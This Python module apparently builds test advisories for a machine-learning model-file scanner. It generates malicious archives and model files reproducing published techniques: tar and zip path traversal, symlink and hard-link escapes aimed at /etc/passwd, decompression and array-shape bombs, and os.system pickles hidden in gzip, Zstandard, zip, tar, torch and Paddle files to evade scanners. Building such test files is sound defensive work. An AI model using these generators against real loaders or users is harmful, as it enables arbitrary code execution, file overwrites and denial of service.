"""Published container techniques: archive slip (zip/tar), symlinks and hard links, decompression and
shape bombs, compression wrappers that hide a pickle (gzip members, Zstandard, pandas zip).
Registered on import; see ``build_advisories``."""

from __future__ import annotations

import json
import struct
import tarfile
import zlib

from advisory_core import (
    Advisory,
    adv,
    advisory,
    sequential,
    tar_bytes,
    tar_info,
)
from build_malicious import (
    SHELL_CMD,
    Asm,
    ZEntry,
    build_zip,
    call_pickle,
    torch_entries,
)


def _zip_symlink(name: str, target: str) -> bytes:
    """A ZIP whose single member carries Unix mode S_IFLNK (the link target is the member data)."""
    raw = build_zip([ZEntry(name, target.encode())])
    # Patch "version made by" to Unix (3 << 8) and external attributes to 0o120777 << 16.
    i = raw.index(b"PK\x01\x02")
    raw = raw[: i + 4] + struct.pack("<H", (3 << 8) | 20) + raw[i + 6 :]
    ext_off = i + 38
    return raw[:ext_off] + struct.pack("<I", 0o120777 << 16) + raw[ext_off + 4 :]


@advisory
def cve_2025_12060_tar_symlink_escape() -> list[Advisory]:
    # CVE-2025-12060 (2025-10, keras.utils.get_file extract) and CVE-2007-4559 class: a symlink member that
    # points outside, followed by a regular member written *through* it.
    data = tar_bytes(
        [tar_info("model", tarfile.SYMTYPE, "../../../../tmp"), tar_info("model/mlvet_marker.out")],
        [b"", b"mlvet-test\n"],
    )
    return adv(
        "cve_2025_12060_tar_symlink_escape",
        "CVE-2025-12060",
        "2025-10",
        data,
        None,
        "Tar symlink out of the extraction root, then a file written through it.",
        component="fs",
        filename="model.tar",
    )


@advisory
def tar_hardlink_escape() -> list[Advisory]:
    # CVE-2025-4517 / CVE-2025-4330 (2025-06, CPython tarfile filter bypasses): hard link to an absolute
    # path outside the extraction root.
    data = tar_bytes([tar_info("weights.bin", tarfile.LNKTYPE, "/etc/passwd")], [b""])
    return adv(
        "cve_2025_4517_tar_hardlink",
        "CVE-2025-4517",
        "2025-06",
        data,
        None,
        "Hard link member targeting an absolute path.",
        component="fs",
        filename="checkpoint.tar",
    )


@advisory
def tar_dotdot_member() -> list[Advisory]:
    # CVE-2007-4559 (re-reported for ML loaders 2022-09, Trellix): '..' member names in a model tarball
    # (.nemo, legacy torch .tar) write outside the extraction directory.
    data = tar_bytes([tar_info("../../../tmp/mlvet_marker.out")], [b"mlvet-test\n"])
    return adv(
        "cve_2007_4559_tar_dotdot",
        "CVE-2007-4559 (Trellix 2022)",
        "2022-09",
        data,
        None,
        "Tar member with a parent-directory name.",
        component="fs",
        filename="model.nemo",
    )


@advisory
def tar_absolute_member() -> list[Advisory]:
    # CVE-2007-4559 variant: absolute member path.
    data = tar_bytes([tar_info("/tmp/mlvet_marker.out")], [b"mlvet-test\n"])
    return adv(
        "cve_2007_4559_tar_absolute",
        "CVE-2007-4559 (Trellix 2022)",
        "2022-09",
        data,
        None,
        "Tar member with an absolute name.",
        component="fs",
        filename="model.tar",
    )


@advisory
def zip_slip_dotdot() -> list[Advisory]:
    # Snyk "Zip Slip" (2018-06), reported for ML zip loaders (mlflow / keras extract): '..' member name.
    data = build_zip([ZEntry("../../tmp/mlvet_marker.out", b"mlvet-test\n")])
    return adv(
        "zip_slip_dotdot",
        "Snyk Zip Slip (2018)",
        "2018-06",
        data,
        None,
        "ZIP member with a parent-directory name.",
        component="fs",
        filename="model.zip",
    )


@advisory
def zip_symlink_member() -> list[Advisory]:
    # ISSUE-9 and the symlink variant of Snyk's Zip Slip (2018-06): a zip entry whose Unix mode is a symlink;
    # extractors that honour the mode (Keras asset unpacking, unzip) create a link out of the tree.
    return adv(
        "zip_unix_symlink_member",
        "Snyk Zip Slip, symlink variant (ISSUE-9)",
        "2018-06",
        _zip_symlink("assets/vocab.txt", "/etc/passwd"),
        None,
        "ZIP entry flagged as a Unix symlink pointing at /etc/passwd.",
        component="fs",
        filename="model.zip",
    )


@advisory
def zip_bomb_torch() -> list[Advisory]:
    # David Fifield "A better zip bomb" (2019-07) applied to model zips: a small deflated member that
    # inflates to a huge data.pkl (resource exhaustion at load).
    big = b"\x00" * (96 << 20)
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    comp = co.compress(big) + co.flush()
    ents = [ZEntry("archive/data/0", big, method=8, payload_override=comp)]
    data = build_zip(torch_entries(call_pickle("collections", "OrderedDict"), extra=ents))
    return adv(
        "zip_bomb_torch_member",
        "Fifield, A better zip bomb (2019)",
        "2019-07",
        data,
        None,
        "A torch zip whose 96 MiB storage member inflates 1000x.",
        component="fs",
        filename="bomb.pt",
    )


@advisory
def zip_nested_dotdot_torch() -> list[Advisory]:
    # JFrog CVE-2025-1889 class (2025-03): pickle under a member name a scanner ignores (no .pkl) inside a
    # torch zip, with the archive directory named like a parent path.
    ents = torch_entries(call_pickle("os", "system", SHELL_CMD), archive="..")
    return adv(
        "zip_torch_archive_dir_dotdot",
        "CVE-2025-1889 class (member naming)",
        "2025-03",
        build_zip(ents),
        "os.system",
        "Torch checkpoint whose record directory is '..'.",
        component="fs",
        filename="model.pt",
        live="torch",
    )


@advisory
def gzip_multimember_joblib() -> list[Advisory]:
    # nullifAI-style (ReversingLabs 2025-02) compression trick for joblib: two concatenated gzip members,
    # the payload in the second (gzip readers concatenate members, many scanners read only the first).
    import gzip

    first = gzip.compress(Asm(2).val({"w": 1}).done()[:-1], mtime=0)
    second = gzip.compress(call_pickle("os", "system", SHELL_CMD, proto=2)[2:], mtime=0)
    return adv(
        "nullifai_gzip_multimember",
        "ReversingLabs nullifAI (2025-02)",
        "2025-02",
        first + second,
        "os.system",
        "Pickle split across two gzip members.",
        component="fs",
        filename="model.joblib.gz",
    )


@advisory
def keras_npz_shape_bomb() -> list[Advisory]:
    # huntr eb298773 / keras PR #23016 (2026-06): an .npz weights member whose .npy header declares far more
    # data than the member stores (numpy allocates the declared shape first).
    header = "{'descr': '<f4', 'fortran_order': False, 'shape': (1073741824, 16), }"
    pad = (64 - (10 + len(header) + 1) % 64) % 64
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header) + pad + 1) + (header + " " * pad + "\n").encode()
    data = build_zip([ZEntry("arr_0.npy", npy + b"\x00" * 64)])
    return adv(
        "keras_npz_shape_bomb",
        "keras PR #23016 (huntr, npz shape bomb)",
        "2026-06",
        data,
        None,
        "npz member declaring 64 GiB while storing 64 bytes.",
        component="fs",
        filename="weights.npz",
    )


@advisory
def keras_zip_decompression_bomb() -> list[Advisory]:
    # huntr 952d310a / keras PR #23010 (2026-06): a .keras archive whose weights member inflates ~1000x.
    big = b"\x00" * (96 << 20)
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    comp = co.compress(big) + co.flush()
    layer = {"module": "keras.layers", "class_name": "Dense", "registered_name": None, "config": {"name": "d"}}
    meta = {"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}
    data = build_zip(
        [
            ZEntry("metadata.json", json.dumps(meta).encode()),
            ZEntry("config.json", json.dumps(sequential(layer)).encode()),
            ZEntry("model.weights.h5", big, method=8, payload_override=comp),
        ]
    )
    return adv(
        "keras_zip_decompression_bomb",
        "keras PR #23010 (huntr, decompression bomb)",
        "2026-06",
        data,
        None,
        "96 MiB of zeros deflated to ~96 KiB inside a .keras archive.",
        component="fs",
        filename="model.keras",
    )


def _zstd_raw(payload: bytes) -> bytes:
    """A Zstandard frame holding ``payload`` in one raw (stored) block: single segment, 2-byte size."""
    assert 256 <= len(payload) + 256 < 65536 + 256
    header = b"\x28\xb5\x2f\xfd" + bytes([0x60]) + struct.pack("<H", len(payload) - 256 if len(payload) >= 256 else 0)
    if len(payload) < 256:
        header = b"\x28\xb5\x2f\xfd" + bytes([0x20]) + bytes([len(payload)])
    block = struct.pack("<I", 1 | (len(payload) << 3))[:3]
    return header + block + payload


@advisory
def hs_pandas_read_pickle_zstd() -> list[Advisory]:
    # arXiv:2508.19774 "model loading paths" (2025-08): pandas.read_pickle infers compression from the suffix,
    # including Zstandard (.zst) which few scanners decompress.
    data = _zstd_raw(call_pickle("os", "system", SHELL_CMD))
    return adv(
        "hs_pandas_read_pickle_zst",
        "arXiv:2508.19774 loading paths (pandas .zst)",
        "2025-08",
        data,
        "os.system",
        "Pickle inside a Zstandard frame (pandas.read_pickle('x.pkl.zst')).",
        component="fs",
        filename="model.pkl.zst",
    )


@advisory
def hs_pandas_read_pickle_zip() -> list[Advisory]:
    # Same paper: pandas.read_pickle('x.pkl.zip') unpickles the single member of a zip, whatever its name.
    data = build_zip([ZEntry("payload.bin", call_pickle("os", "system", SHELL_CMD))])
    return adv(
        "hs_pandas_read_pickle_zip",
        "arXiv:2508.19774 loading paths (pandas .zip)",
        "2025-08",
        data,
        "os.system",
        "Pickle as the only member of a zip, under a neutral name.",
        component="fs",
        filename="model.pkl.zip",
    )


@advisory
def paddle_pdparams() -> list[Advisory]:
    # PaddlePaddle paddle.load (documented, 2024-01 huntr reports on paddle deserialisation): .pdparams / .pdopt
    # files are protocol-2 pickles.
    return adv(
        "paddle_pdparams_pickle",
        "PaddlePaddle paddle.load (pickle) reports",
        "2024-01",
        call_pickle("os", "system", SHELL_CMD, proto=2),
        "os.system",
        "A Paddle parameter file is a protocol-2 pickle.",
        filename="model.pdparams",
    )


@advisory
def hs_pandas_read_pickle_tar() -> list[Advisory]:
    # arXiv:2508.19774 loading paths (2025-08): pandas.read_pickle('x.pkl.tar') unpickles the single member of
    # a tar archive whatever its name.
    data = tar_bytes([tar_info("data")], [call_pickle("os", "system", SHELL_CMD)])
    return adv(
        "hs_pandas_read_pickle_tar",
        "arXiv:2508.19774 loading paths (pandas .tar)",
        "2025-08",
        data,
        "os.system",
        "Pickle as the only member of a tar, without an extension.",
        component="fs",
        filename="model.pkl.tar",
    )
